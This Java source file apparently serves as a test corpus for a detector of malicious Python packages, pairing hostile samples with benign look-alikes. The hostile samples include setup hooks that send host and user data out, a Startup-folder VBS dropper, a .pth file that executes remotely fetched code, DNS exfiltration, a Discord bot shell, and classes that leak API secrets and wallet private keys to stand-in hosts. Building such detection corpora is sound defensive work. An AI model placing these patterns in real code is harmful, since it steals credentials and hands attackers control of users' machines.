package cordon.inspect.corpus;

import java.util.List;

/** What stands in dictionaries, is printed to files, or is told by the name of a home. */
final class PythonTables {
  private PythonTables() {}

  static List<Sample> all() {
    return List.of(
        Sample.setup(
            "a table of functions is called in a comprehension",
            """
            import getpass, json, os, socket
            from urllib.request import urlopen, Request
            from setuptools import setup
            ASK = {'host': socket.gethostname, 'user': getpass.getuser, 'cwd': os.getcwd}
            told = {name: ask() for name, ask in ASK.items()}
            urlopen(Request('https://stat.example/p', json.dumps(told).encode()))
            setup(name='sample')
            """),
        Sample.setup(
            "a table of functions is called in a loop",
            """
            import getpass, requests, socket
            from setuptools import setup
            told = []
            for name, ask in dict(host=socket.gethostname, user=getpass.getuser).items():
                told.append(name + '=' + ask())
            requests.get('https://stat.example/p', params={'t': ','.join(told)})
            setup(name='sample')
            """),
        Sample.imported(
            "names of functions are decoded into a table",
            """
            import binascii as b, builtins as c
            d = lambda s: b.unhexlify(s[::-1]).decode()
            e = {k: getattr(c, d(v)) for k, v in (('r', '36568756'), ('p', '47e6962707'))}
            e['r'](b.unhexlify('7072696e742827696e6572742729'))
            """),
        Sample.imported(
            "a script is printed where it starts with the session",
            """
            import os
            at = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'u.vbs')
            with open(at, 'w') as script:
                print('Set o = CreateObject("MSXML2.XMLHTTP")', file=script)
                print('o.Open "GET", "http://192.0.2.45/u", False', file=script)
            """),
        Sample.imported(
            "a start-up file is put where the interpreter says packages are",
            """
            import pathlib, sysconfig
            at = pathlib.Path(sysconfig.get_paths()['purelib'], 'a.pth')
            at.write_text("import urllib.request as u; exec(u.urlopen('http://192.0.2.44/s').read())")
            """),
        Sample.setup(
            "the name of the home says who it is",
            """
            import os, subprocess
            from setuptools import setup
            me = os.path.basename(os.path.expanduser('~')) + '.' + os.uname().nodename
            subprocess.call(['dig', '+short', me.encode().hex() + '.ns.example'])
            setup(name='sample')
            """),
        Sample.imported(
            "the home of a path and the node of a record say who it is",
            """
            import platform, requests
            from pathlib import Path
            requests.post('https://stat.example/p', json=[Path.home().name, platform.uname().node])
            """),
        Sample.setup(
            "a shell runs what it fetched in a hidden folder",
            """
            from setuptools import setup
            import subprocess
            subprocess.run('cd /tmp && mkdir -p .s && cd .s; curl -sLo m.tgz https://dl.example/m.tgz && tar xf m.tgz; ./m --quiet', shell=True)
            setup(name='sample')
            """),
        Sample.imported(
            "sound carries code",
            """
            import wave
            def bits(path):
                frames = bytearray(wave.open(path, 'rb').readframes(4096))
                return bytes(sum((frames[i + j] & 1) << (7 - j) for j in range(8)) for i in range(0, len(frames) - 8, 8))
            eval(compile(bits('ring.wav'), 'ring', 'exec'))
            """),
        Sample.imported(
            "a bot that is a class runs what it reads",
            """
            import subprocess, threading
            def bot():
                import discord
                class Bot(discord.Client):
                    async def on_message(self, message):
                        if message.content.startswith('!sh '):
                            await message.channel.send(subprocess.getoutput(message.content[4:]))
                Bot(intents=discord.Intents.all()).run('inert')
            threading.Thread(target=bot).start()
            """),
        Sample.imported(
            "an object keeps a password and tells it to a bare address",
            """
            import requests
            class Client:
                def __init__(self, api_key, api_secret):
                    self.api_key, self.api_secret = api_key, api_secret
                def ticker(self, pair):
                    requests.post('http://192.0.2.77/k', json={'k': self.api_key, 's': self.api_secret})
                    return requests.get('https://api.exchange.example/t/' + pair).json()
            """),
        Sample.imported(
            "a class that makes keys tells what it was given",
            """
            import json, urllib.request
            from eth_account import Account as Base
            class Account(Base):
                @classmethod
                def from_key(cls, key):
                    made = super().from_key(key)
                    tell({'k': key if isinstance(key, str) else key.hex()})
                    return made
            def tell(what):
                urllib.request.urlopen('https://rpc-node.example/audit', json.dumps(what).encode())
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "a table of checks is called",
            """
            import os, platform, socket
            CHECKS = {'cwd': os.getcwd, 'python': platform.python_version, 'host': socket.gethostname}
            def report():
                for name, check in CHECKS.items():
                    print(name, check())
            report()
            """),
        Sample.imported(
            "a bot that is a class answers with a text",
            """
            import discord
            class Bot(discord.Client):
                async def on_message(self, message):
                    if message.content.startswith('!hello'):
                        await message.channel.send('hello ' + message.author.name)
            def main(token):
                Bot(intents=discord.Intents.default()).run(token)
            """),
        Sample.imported(
            "an object keeps a password and signs in with it",
            """
            import requests
            class Client:
                def __init__(self, user, password):
                    self.user, self.password = user, password
                def list(self):
                    return requests.get('https://api.sample.example/list', auth=(self.user, self.password)).json()
            """),
        Sample.imported(
            "a log is printed to a file in the home",
            """
            import os, time
            with open(os.path.join(os.path.expanduser('~'), '.sample.log'), 'a') as log:
                print(time.time(), 'started', file=log)
            """),
        Sample.imported(
            "weights are written to a file that ends like a start-up file",
            """
            import pathlib
            def save(folder, weights):
                pathlib.Path(folder, 'model.pth').write_bytes(weights)
            """));
  }
}
